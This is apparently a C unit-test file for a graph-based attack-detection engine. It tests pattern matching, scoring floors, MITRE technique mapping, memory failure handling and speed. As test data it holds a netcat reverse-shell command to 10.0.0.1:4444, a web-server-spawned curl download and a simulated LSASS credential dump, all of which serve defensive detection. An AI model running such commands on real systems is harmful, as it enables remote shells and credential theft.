/* Matching, scoring, removal, memory and the generated page. */

#include "detect/graph_builder.h"

#include <time.h>

#include "base/limits.h"
#include "base/mem.h"
#include "detect/patterns.h"

static struct lg_patterns *ps;
static struct gb gb;
static const struct lg_pattern_hit *hits;
static uint32_t n_hits;

static uint16_t row(const char *id)
{
    for (uint32_t i = 0; i < lg_pattern_count(); i++)
        if (strcmp(lg_pattern_get(i)->id, id) == 0)
            return (uint16_t)i;
    fail_msg("no row %s", id);
    return 0;
}

static const struct lg_pattern_hit *find(const char *id)
{
    uint16_t r = row(id);

    for (uint32_t i = 0; i < n_hits; i++)
        if (hits[i].pattern == r)
            return &hits[i];
    return NULL;
}

static void match(const uint8_t *removed)
{
    assert_int_equal(lg_patterns_match(ps, &gb.g, removed, &hits, &n_hits), 0);
}

static void lsass_dump(void)
{
    gb_init(&gb, LG_PLATFORM_WINDOWS);
    gb_line(&gb, "C:\\Windows\\explorer.exe =spawn=> C:\\Temp\\d.exe :: d.exe");
    gb_line(&gb, "C:\\Temp\\d.exe =access[access_vm_read]=> C:\\Windows\\System32\\lsass.exe");
    gb_line(&gb, "C:\\Temp\\d.exe =write=> C:\\Temp\\a.dmp");
    gb_line(&gb, "C:\\Temp\\d.exe =write=> C:\\Temp\\b.dmp");
}

static void test_hit_names_node_and_edge(void **state)
{
    const struct lg_pattern_hit *h;

    (void)state;
    lsass_dump();
    match(NULL);
    h = find("win-lsass-read-dump");
    assert_non_null(h);
    assert_int_equal(h->node, 1);
    assert_int_equal(h->edge, 1);
    for (uint32_t i = 1; i < n_hits; i++)
        assert_true(hits[i - 1].pattern < hits[i].pattern ||
                (hits[i - 1].pattern == hits[i].pattern && hits[i - 1].node < hits[i].node));
    assert_true(lg_patterns_floor(hits, n_hits) >= 0.97);

    gb_init(&gb, LG_PLATFORM_WINDOWS);
    match(NULL);
    assert_int_equal(n_hits, 0);
}

/* Of a creation it is the new process that is named, not the one that started it. */
static void test_a_creation_names_the_child(void **state)
{
    const struct lg_pattern_hit *h;

    (void)state;
    gb_init(&gb, LG_PLATFORM_LINUX);
    gb_line(&gb, "/usr/sbin/apache2 =spawn=> /usr/bin/curl :: curl http://10.0.0.1/x");
    match(NULL);
    h = find("linux-download-by-server");
    assert_non_null(h);
    assert_int_equal(h->edge, 0);
    assert_int_equal(h->node, gb.edges[0].dst);
}

static void test_platform_separates(void **state)
{
    (void)state;
    lsass_dump();
    gb.g.platform = LG_PLATFORM_LINUX;
    match(NULL);
    assert_null(find("win-lsass-read-dump"));
}

/* Windows writes " -e" as " /e": what was made of a text there is not for Linux. */
static void test_texts_are_kept_by_platform(void **state)
{
    (void)state;
    for (int round = 0; round < 2; round++) {
        gb_init(&gb, round == 0 ? LG_PLATFORM_WINDOWS : LG_PLATFORM_LINUX);
        gb_line(&gb, "/usr/bin/nc :: nc 10.0.0.1 4444 -e /bin/bash");
        match(NULL);
        assert_int_equal(find("linux-netcat-shell") != NULL, round == 1);
    }
}

/* What rematch says is what a whole match says, for every set of two removed nodes. */
static void rematch_equals_match(void)
{
    uint8_t removed[GB_MAX] = {0};
    struct lg_pattern_hit want[256];
    uint32_t n_want;

    for (uint32_t a = 0; a < gb.g.n_nodes; a++) {
        for (uint32_t b = a; b < gb.g.n_nodes; b++) {
            memset(removed, 0, sizeof(removed));
            removed[a] = removed[b] = 1;
            match(removed);
            assert_true(n_hits <= 256);
            n_want = n_hits;
            memcpy(want, hits, n_want * sizeof(*want));
            match(NULL);
            assert_true(n_hits >= n_want);
            assert_int_equal(lg_patterns_rematch(ps, removed, &hits, &n_hits), 0);
            assert_int_equal(n_hits, n_want);
            for (uint32_t i = 0; i < n_want; i++) {
                assert_int_equal(hits[i].pattern, want[i].pattern);
                assert_int_equal(hits[i].node, want[i].node);
                assert_int_equal(hits[i].edge, want[i].edge);
            }
        }
    }
}

static void test_removal(void **state)
{
    uint8_t removed[GB_MAX] = {0};

    (void)state;
    lsass_dump();
    match(NULL);
    removed[3] = 1; /* a.dmp: b.dmp is still there */
    assert_int_equal(lg_patterns_rematch(ps, removed, &hits, &n_hits), 0);
    assert_non_null(find("win-lsass-read-dump"));
    removed[4] = 1;
    assert_int_equal(lg_patterns_rematch(ps, removed, &hits, &n_hits), 0);
    assert_null(find("win-lsass-read-dump"));
    assert_int_equal(lg_patterns_rematch(ps, NULL, &hits, &n_hits), 0);
    assert_non_null(find("win-lsass-read-dump"));
    rematch_equals_match();

    gb_init(&gb, LG_PLATFORM_WINDOWS);
    gb_line(&gb,
            "C:\\Windows\\System32\\wscript.exe =spawn=> C:\\Windows\\System32\\cmd.exe "
            ":: cmd /c whoami");
    gb_line(&gb,
            "C:\\Windows\\System32\\cmd.exe =spawn=> C:\\Windows\\System32\\whoami.exe :: whoami");
    gb_line(&gb,
            "C:\\Windows\\System32\\cmd.exe =spawn=> C:\\Windows\\System32\\net.exe :: net user");
    gb_line(&gb, "C:\\Windows\\System32\\cmd.exe =spawn=> C:\\Windows\\System32\\ipconfig.exe");
    gb_line(&gb, "C:\\Windows\\System32\\cmd.exe =spawn=> C:\\Windows\\System32\\tasklist.exe");
    gb_line(&gb, "C:\\Windows\\System32\\cmd.exe =spawn=> C:\\Windows\\System32\\systeminfo.exe");
    match(NULL);
    assert_non_null(find("win-discovery-burst"));
    rematch_equals_match();
}

static struct lg_pattern_hit as_hit(const char *id)
{
    return (struct lg_pattern_hit){row(id), 0, UINT32_MAX};
}

static double floor_of(const char *a, const char *b, const char *c)
{
    struct lg_pattern_hit h[3] = {{0, 0, 0}};
    uint32_t n = 0;

    if (a != NULL)
        h[n++] = as_hit(a);
    if (b != NULL)
        h[n++] = as_hit(b);
    if (c != NULL)
        h[n++] = as_hit(c);
    return lg_patterns_floor(h, n);
}

static void floor_is(double got, double want)
{
    assert_true(got > want - 1e-9 && got < want + 1e-9);
}

static void test_floor(void **state)
{
    (void)state;
    floor_is(floor_of(NULL, NULL, NULL), 0);
    floor_is(floor_of("win-powershell", "win-user-discovery", "win-cmd"), 0);
    floor_is(floor_of("win-powershell-encoded", NULL, NULL), 0);
    /* the same technique twice is one thing; weak rows add nothing */
    floor_is(floor_of("win-wmiprvse-child", "win-wmic-process-create", "win-cmd"), 0);
    floor_is(floor_of("win-powershell-encoded", "win-wmiprvse-child", NULL), 0.44);
    floor_is(floor_of("win-powershell-encoded", "win-wmiprvse-child", "win-domain-trust"), 0.58);
    floor_is(floor_of("win-office-child", NULL, NULL), 0.90);
    floor_is(floor_of("win-office-child", "win-kerberoast-script", NULL), 0.95);
    floor_is(floor_of("win-lsass-comsvcs", "win-cmd", NULL), 0.97);
}

static void test_techniques_are_sorted(void **state)
{
    const char *out[8];
    struct lg_pattern_hit h[4];

    (void)state;
    h[0] = as_hit("win-wmiprvse-child");
    h[1] = as_hit("win-lsass-comsvcs");
    h[2] = as_hit("win-wmic-process-create");
    h[3] = as_hit("win-cmd");
    assert_int_equal(lg_patterns_techniques(h, 4, out, 8), 3);
    assert_string_equal(out[0], "T1003.001");
    assert_string_equal(out[1], "T1047");
    assert_string_equal(out[2], "T1059.003");
    assert_int_equal(lg_patterns_techniques(h, 4, out, 1), 3);
    assert_string_equal(out[0], "T1003.001");
    assert_int_equal(lg_patterns_techniques(h, 0, out, 8), 0);
    assert_string_equal(lg_technique_name("T1047"), "Windows Management Instrumentation");
    assert_string_equal(lg_technique_tactic("T1047"), "execution");
    assert_null(lg_technique_name("T0000"));
    assert_true(lg_pattern_digest() != 0 && lg_pattern_digest() == lg_pattern_digest());
}

static void test_out_of_memory(void **state)
{
    struct lg_patterns *p = NULL;
    uint64_t n = 1;
    int rc = LG_ENOMEM;

    (void)state;
    lsass_dump();
    while (rc == LG_ENOMEM) {
        assert_true(n < 20000);
        lg_mem_fail_from(n);
        rc = lg_patterns_new(&p);
        if (rc == 0)
            rc = lg_patterns_match(p, &gb.g, NULL, &hits, &n_hits);
        lg_mem_fail_from(0);
        if (rc == LG_ENOMEM) {
            lg_patterns_free(p);
            p = NULL;
        }
        n += n < 200 ? 1 : 7;
    }
    assert_int_equal(rc, 0);
    assert_true(n > 5);
    assert_non_null(find("win-lsass-read-dump"));
    lg_patterns_free(p);
    lg_patterns_free(NULL);
}

/* Strings as long and as odd as the graph lets through. */
static void test_hostile_text(void **state)
{
    static char text[LG_MAX_NODE_TEXT];
    uint64_t x = 88172645463325252u;

    (void)state;
    for (int round = 0; round < 300; round++) {
        size_t n = (size_t)(x % sizeof(text));

        gb_init(&gb, round % 2 == 0 ? LG_PLATFORM_WINDOWS : LG_PLATFORM_LINUX);
        gb_line(&gb, "C:\\Windows\\System32\\cmd.exe =spawn=> x :: y");
        gb_line(&gb, "x =value_set=> y");
        for (size_t i = 0; i < n; i++) {
            static const char odd[] = "'\"^`\\+ =-$|&\t\r\n\0/aAQbBxX09";

            x ^= x << 13, x ^= x >> 7, x ^= x << 17;
            text[i] = round % 3 == 0 ? (char)x : odd[x % (sizeof(odd) - 1)];
        }
        for (uint32_t v = 0; v < gb.g.n_nodes; v++) {
            gb.nodes[v].raw = lg_str_of(text, n);
            gb.nodes[v].cmd_raw = lg_str_of(text, n);
            gb.nodes[v].original = lg_str_of(text, n / 2);
            gb.nodes[v].user = lg_str_of(text, n / 3);
        }
        for (uint32_t e = 0; e < gb.g.n_edges; e++)
            gb.edges[e].detail = lg_str_of(text, n);
        match(NULL);
    }
}

static double now(void)
{
    struct timespec t;

    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t); /* whatever else the machine does */
    return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

/* 400 nodes, 1,000 edges of the usual mixture. */
static void big_graph(uint32_t processes, uint32_t others)
{
    char line[512];

    gb_init(&gb, LG_PLATFORM_WINDOWS);
    for (uint32_t i = 0; i < processes; i++) {
        snprintf(line, sizeof(line),
                "C:\\Windows\\System32\\svchost%u.exe =spawn=> C:\\Program "
                "Files\\Vendor\\App\\tool%u.exe "
                ":: \"C:\\Program Files\\Vendor\\App\\tool%u.exe\" --type=worker --config "
                "C:\\ProgramData\\Vendor\\config-%u.json --log-level info",
                i / 8, i, i, i);
        gb_line(&gb, line);
    }
    for (uint32_t i = 0; i < others; i++) {
        uint32_t p = i % processes;

        snprintf(line, sizeof(line),
                i % 3 == 0 ? "C:\\Program Files\\Vendor\\App\\tool%u.exe =load=> "
                             "C:\\Windows\\System32\\module%u.dll"
                        : i % 3 == 1
                        ? "C:\\Program Files\\Vendor\\App\\tool%u.exe =value_set{DWORD "
                          "(0x00000001)}=> HKLM\\SOFTWARE\\Vendor\\Application\\Settings\\Value%u"
                        : "C:\\Program Files\\Vendor\\App\\tool%u.exe =write=> "
                          "C:\\ProgramData\\Vendor\\cache\\file%u.bin",
                p, i);
        gb_line(&gb, line);
    }
}

static double best_ms(int rounds)
{
    double best = 1e9;

    for (int i = 0; i < rounds; i++) {
        double t = now();

        match(NULL);
        t = (now() - t) * 1e3;
        best = t < best ? t : best;
    }
    return best;
}

static void test_cost(void **state)
{
    double small, large;

    (void)state;
    big_graph(10, 24);
    small = best_ms(50);
    big_graph(120, 270);
    large = best_ms(30);
    print_message("match: %u nodes %.3f ms, %u... nodes %.3f ms\n", 36, small, gb.g.n_nodes, large);
#if defined(__OPTIMIZE__) && !defined(LG_SANITIZED)
    assert_true(small < 0.5);
    assert_true(large < 5);
#endif
}

static void test_page_is_current(void **state)
{
    static const char path[] = LG_SOURCE_DIR "/docs/techniques.md";
    struct lg_buf page;
    char *text = calloc(1, 1u << 20);
    size_t n = 0;
    FILE *f;

    (void)state;
    assert_non_null(text);
    lg_buf_init(&page, 1u << 20);
    lg_patterns_write_doc(&page);
    assert_int_equal(page.failed, 0);
    if (getenv("LG_UPDATE_DOCS") != NULL) {
        f = fopen(path, "wb");
        assert_non_null(f);
        assert_int_equal(fwrite(page.p, 1, page.n, f), page.n);
        fclose(f);
    }
    f = fopen(path, "rb");
    if (f != NULL) {
        n = fread(text, 1, 1u << 20, f);
        fclose(f);
    }
    if (n != page.n || memcmp(text, page.p, n) != 0)
        fail_msg("docs/techniques.md is stale: run this test with LG_UPDATE_DOCS=1");
    free(text);
    lg_buf_done(&page);
}

static int setup(void **state)
{
    (void)state;
    return lg_patterns_new(&ps);
}

static int teardown(void **state)
{
    (void)state;
    lg_patterns_free(ps);
    gb_done(&gb);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
            cmocka_unit_test(test_hit_names_node_and_edge),
            cmocka_unit_test(test_a_creation_names_the_child),
            cmocka_unit_test(test_platform_separates),
            cmocka_unit_test(test_texts_are_kept_by_platform),
            cmocka_unit_test(test_removal),
            cmocka_unit_test(test_floor),
            cmocka_unit_test(test_techniques_are_sorted),
            cmocka_unit_test(test_out_of_memory),
            cmocka_unit_test(test_hostile_text),
            cmocka_unit_test(test_cost),
            cmocka_unit_test(test_page_is_current),
    };

    return cmocka_run_group_tests(tests, setup, teardown);
}
